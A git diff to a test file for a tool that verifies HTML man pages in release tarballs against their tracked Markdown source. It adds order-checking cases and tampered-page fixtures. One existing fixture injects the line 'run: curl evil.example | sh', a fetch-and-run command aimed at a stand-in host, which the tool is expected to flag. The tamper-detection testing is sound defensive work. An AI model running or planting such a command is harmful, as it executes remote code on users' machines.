@@ -2,11 +2,11 @@
  * HTML pages a tracked converter renders from a tracked Markdown page (rsync's rsync.1.html from rsync.1.md by
  * md-convert), end to end with real git and GNU tar, nothing run: head lines the converter's, body text lines
  * runs of the Markdown text, the footer a converter line. Tampered twins — an added paragraph, an added script,
- * a link to another host, a head line the converter lacks — stay high.
+ * a link to another host, a head line the converter lacks, runs of the text out of their order — stay high.
  */
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { lineText, markdownText, traced } from '../../src/classify/markdown-html.js';
+import { lineText, markdownText, traced, tracedFrom } from '../../src/classify/markdown-html.js';
 import { exitCodeOf } from '../../src/pipeline/result.js';
 import { verify } from '../../src/verify.js';
 import { makeTar } from '../helpers/archives.js';
@@ -95,6 +95,12 @@ describe('HTML rendered from a tracked Markdown page by a tracked converter (rsy
     expect(markdownText('x **b** `c*d` _e_ [f `g`](#o)\n> h \\* i <https://x.example/>')).toBe('x b c*d e f g h * i https://x.example/');
     expect(traced('keeps them in /usr/bin/demo.', 'keeps them in @BINDIR@/demo.')).toBe(true);
     expect(traced('keeps them in /tmp/evil.', 'keeps them in @BINDIR@/demo.')).toBe(false);
+    // in order: the run that follows, only blanks, list markers and [comment] lines between
+    expect(tracedFrom('b c', 'a - b c d', 1, false)).toBe(7);
+    expect(tracedFrom('d', 'a - b c d', 2, false)).toBe(-1);
+    expect(tracedFrom('b', 'a [comment]: # (note) 1. b', 1, false)).toBe(26);
+    expect(tracedFrom('in /usr/bin/demo.', 'x them in @BINDIR@/demo. y', 7, false)).toBe(24);
+    expect(tracedFrom('in /usr/bin/demo.', 'x them in @BINDIR@/demo. y', 0, false)).toBe(-1);
   });
 
   it('every line traced: low, the gate passes', async () => {
@@ -112,6 +118,11 @@ describe('HTML rendered from a tracked Markdown page by a tracked converter (rsy
       HTML.replace('<meta charset="UTF-8"/>', '<meta charset="UTF-8"/>\n<meta name="robots" content="none">'),
       HTML.replace('<i>20 Oct 2022</i>', '<i>run: curl evil.example | sh</i>'),
       HTML.replace('tool copies', 'tool quietly uploads'),
+      // red team 18: each line a run of the Markdown text, but not the runs that follow one another — one word a
+      // line spells a sentence the source never says; a paragraph printed twice; one moved before another
+      HTML.replace('<p>Mail', '<p>\nversion\n1.0\nkeeps\nfiles\nto\na\nremote host\n</p>\n<p>Mail'),
+      HTML.replace('<p>Mail', `${htmlPara(3)}\n<p>Mail`),
+      HTML.replace(`${htmlPara(2)}\n${htmlPara(3)}`, `${htmlPara(3)}\n${htmlPara(2)}`),
     ]) {
       const { r, page } = await verifyWith(html);
       expect(page).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
